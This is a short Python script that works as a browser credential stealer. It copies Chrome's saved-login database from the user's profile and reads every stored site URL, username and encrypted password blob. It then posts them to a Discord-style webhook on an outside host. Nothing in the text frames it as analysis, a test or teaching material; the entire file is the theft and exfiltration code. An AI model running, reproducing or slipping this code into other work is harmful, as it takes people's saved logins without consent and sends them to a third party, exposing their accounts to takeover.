import os
import shutil
import sqlite3
import tempfile

import requests

src = os.path.join(
    os.environ.get("LOCALAPPDATA", ""),
    "Google", "Chrome", "User Data", "Default", "Login Data",
)
tmp = os.path.join(tempfile.gettempdir(), "ld.db")
shutil.copy2(src, tmp)

con = sqlite3.connect(tmp)
rows = con.execute(
    "SELECT origin_url, username_value, password_value FROM logins"
).fetchall()
con.close()

entries = [{"u": r[0], "n": r[1], "p": r[2].hex()} for r in rows]
requests.post("https://discord-hooks.example-metrics.net/api/webhooks/0/x",
              json={"content": str(entries)[:1900]})
